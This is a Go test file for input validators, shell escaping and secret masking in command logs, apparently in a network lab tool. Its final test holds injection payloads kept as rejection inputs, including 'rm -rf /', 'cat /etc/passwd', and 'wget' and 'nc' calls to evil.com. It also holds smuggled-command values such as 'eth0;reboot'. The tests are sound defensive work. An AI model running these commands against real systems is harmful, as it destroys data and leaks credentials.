package security

import (
	"strings"
	"testing"
)

func TestValidateHostName(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "dut", false},
		{"valid chip name", "4377A", false},
		{"valid with hyphens", "ap-left", false},
		{"valid with underscores", "sta_1", false},
		{"valid single char", "a", false},
		{"empty", "", true},
		{"starts with hyphen", "-dut", true},
		{"starts with underscore", "_dut", true},
		{"special chars", "dut;id", true},
		{"space", "my dut", true},
		{"too long", strings.Repeat("a", 65), true},
		{"max length", strings.Repeat("a", 64), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateHostName(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateHostName(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateAddress(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"ipv4", "10.19.87.7", false},
		{"ipv6", "fe80::1", false},
		{"dns name", "dut1.lab.example.org", false},
		{"short name", "dut1", false},
		{"empty", "", true},
		{"with user", "root@10.0.0.1", true},
		{"with port", "10.0.0.1:22", true},
		{"injection", "host;id", true},
		{"leading dot", ".host", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateAddress(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateAddress(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateUnixUser(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"root", "root", false},
		{"with digits", "user1", false},
		{"underscore start", "_svc", false},
		{"empty", "", true},
		{"uppercase", "Root", true},
		{"digit start", "1user", true},
		{"too long", strings.Repeat("a", 33), true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateUnixUser(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateUnixUser(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateDevice(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"empty is allowed", "", false},
		{"eth0", "eth0", false},
		{"ap0", "ap0", false},
		{"vlan", "eth0.100", false},
		{"wl", "wl0.1", false},
		{"too long", "abcdefghijklmnop", true},
		{"injection", "eth0;reboot", true},
		{"space", "eth 0", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateDevice(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateDevice(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestShellEscape(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected string
	}{
		{"empty string", "", "''"},
		{"simple string", "hello", "'hello'"},
		{"with spaces", "hello world", "'hello world'"},
		{"with single quotes", "it's", "'it'\\''s'"},
		{"with double quotes", `say "hello"`, `'say "hello"'`},
		{"with backticks", "echo `id`", "'echo `id`'"},
		{"with dollar paren", "echo $(id)", "'echo $(id)'"},
		{"with semicolon", "cmd1; cmd2", "'cmd1; cmd2'"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ShellEscape(tt.input)
			if got != tt.expected {
				t.Errorf("ShellEscape(%q) = %q, want %q", tt.input, got, tt.expected)
			}
		})
	}
}

func TestSanitizeCommandForLog(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		contains string // substring that should NOT be present
		masked   bool   // true if the output should contain ****
	}{
		{
			"masks WPA password",
			"wpa_passphrase lab WPA_PASSPHRASE='s3cret value'",
			"s3cret",
			true,
		},
		{
			"masks suffix match",
			"DB_PASSWORD=hunter2 ./bench",
			"hunter2",
			true,
		},
		{
			"masks token",
			"curl -H x API_TOKEN=abc123 http://ctl",
			"abc123",
			true,
		},
		{
			"masks sshpass",
			"sshpass -p topsecret ssh root@dut",
			"topsecret",
			true,
		},
		{
			"no masking for safe commands",
			"/usr/bin/wl -i eth0 status",
			"",
			false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := SanitizeCommandForLog(tt.input)
			if tt.masked && !strings.Contains(result, "****") {
				t.Errorf("expected masked output to contain '****', got %q", result)
			}
			if !tt.masked && result != tt.input {
				t.Errorf("expected command unchanged, got %q", result)
			}
			if tt.contains != "" && strings.Contains(result, tt.contains) {
				t.Errorf("sanitized output should not contain %q, got %q", tt.contains, result)
			}
		})
	}
}

// Test injection attempts that could bypass validation
func TestInjectionAttempts(t *testing.T) {
	injectionPayloads := []string{
		"test;rm -rf /",
		"test && cat /etc/passwd",
		"test || wget evil.com",
		"test`id`",
		"test$(whoami)",
		"test\nmalicious",
		"test|nc evil.com 80",
		"test>/etc/passwd",
	}

	t.Run("HostName blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateHostName(payload); err == nil {
				t.Errorf("ValidateHostName should reject: %q", payload)
			}
		}
	})

	t.Run("Address blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateAddress(payload); err == nil {
				t.Errorf("ValidateAddress should reject: %q", payload)
			}
		}
	})

	t.Run("Device blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateDevice(payload); err == nil {
				t.Errorf("ValidateDevice should reject: %q", payload)
			}
		}
	})

	t.Run("UnixUser blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateUnixUser(payload); err == nil {
				t.Errorf("ValidateUnixUser should reject: %q", payload)
			}
		}
	})
}
